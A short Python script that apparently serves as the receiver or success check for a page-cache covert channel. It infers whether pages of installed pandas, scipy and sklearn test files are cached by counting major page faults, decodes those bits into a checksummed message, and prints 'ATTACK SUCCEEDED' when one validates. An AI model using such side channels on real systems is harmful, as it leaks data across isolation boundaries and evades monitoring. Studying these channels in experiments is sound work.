# %%
import glob
import mmap
import os
import resource
import zlib

import scipy

LIBRARIES = os.path.dirname(os.path.dirname(scipy.__file__))
FILES = sorted(
    file
    for pattern in ("pandas/tests/*/*/*.py", "scipy/*/tests/*.py", "sklearn/*/tests/*.py")
    for file in glob.glob(f"{LIBRARIES}/{pattern}")
    if os.path.getsize(file)
)[:240]


def is_remembered(file):
    """Whether a page of the file was in memory: to touch one that was not counts as a major fault."""
    with open(file, "rb") as stream, mmap.mmap(stream.fileno(), 1, prot=mmap.PROT_READ) as page:
        page.madvise(mmap.MADV_RANDOM)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_majflt
        page[0]
        return resource.getrusage(resource.RUSAGE_SELF).ru_majflt == before


bits = "".join(str(int(is_remembered(file))) for file in FILES)
message = bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8))
length, check, raw = message[0], message[1], message[2:]
if 0 < length <= len(raw) and zlib.crc32(raw[:length]) % 251 == check:
    print("ATTACK", "SUCCEEDED: found", raw[:length])
print("bits looked at:", len(bits))
